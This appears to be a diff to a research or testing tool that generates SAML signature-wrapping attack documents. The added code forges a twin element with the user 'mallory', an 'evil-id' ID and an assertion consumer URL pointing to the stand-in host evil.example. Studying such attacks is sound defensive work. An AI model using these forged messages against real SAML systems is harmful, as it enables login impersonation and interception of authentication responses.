@@ -115,17 +115,24 @@ O_SLOTS_A = ['absent', 'T/Advice', 'T/Issuer', 'T/SCD', 'T/AttrValue', 'T/Sig/Ob
 S_SLOTS_A = [None, 'T-first', 'T-after-issuer', 'T-last', 'T/Issuer', 'T/Advice', 'before-T', 'O']
 O_SLOTS_R = ['absent', 'T/Extensions', 'T/Issuer', 'T/StatusMessage', 'T/Assertion/Advice', 'T/Sig/Object', 'T-last']
 S_SLOTS_R = [None, 'T-first', 'T-after-issuer', 'T-last', 'T/Issuer', 'T/Extensions', 'O']
+O_SLOTS_Q = ['absent', 'T/Extensions', 'T/Issuer', 'T/Sig/Object', 'T-last']       # target 'Request' (C10)
 
 
 def kids(e, name=None):
     return [c for c in e.childNodes if c.nodeType == 1 and (name is None or c.localName == name)]
 
 
-def grammar(xml, target):
-    """Yield (coords, document) for every member of the wrapping grammar around one validly signed element O."""
+def grammar(xml, target, only=None):
+    """Yield (coords, document) for every member of the wrapping grammar around one validly signed element O.
+    target: 'Assertion' (O is the assertion of a response), 'Response' or 'Request' (O is the document element).
+    only=(tid, oslot) restricts the enumeration to one block."""
     O_SLOTS, S_SLOTS = (O_SLOTS_A, S_SLOTS_A) if target == 'Assertion' else (O_SLOTS_R, S_SLOTS_R)
+    if target == 'Request':
+        O_SLOTS = O_SLOTS_Q
     for tid in ('fresh', 'same'):
         for oslot in O_SLOTS:
+            if only is not None and (tid, oslot) != tuple(only):
+                continue
             for okeeps in (False, True):
                 for s1, s2 in itertools.product(S_SLOTS, S_SLOTS):
                     if s1 is None and s2 is not None:
@@ -146,6 +153,10 @@ def grammar(xml, target):
                         T.setAttribute('ID', 'evil-id' if tid == 'fresh' else oid)
                         for e in T.getElementsByTagNameNS(SAML, 'NameID'):
                             e.firstChild.data = 'mallory'
+                        if target == 'Request':
+                            T.setAttribute('Consent', 'urn:vp:evil')
+                            if T.hasAttribute('AssertionConsumerServiceURL'):
+                                T.setAttribute('AssertionConsumerServiceURL', 'https://evil.example/acs')
                         if target == 'Assertion':
                             R.replaceChild(T, O)
                             TA = T
@@ -153,9 +164,7 @@ def grammar(xml, target):
                             # the twin becomes the document element; O is detached (and possibly re-placed below)
                             d.removeChild(R)
                             d.appendChild(T)
-                            TA = kids(T, 'Assertion')[0]
-                            for s in kids(TA, 'Signature'):
-                                pass
+                            TA = (kids(T, 'Assertion') or [None])[0]
                         if not okeeps:
                             O.removeChild(osig)
 
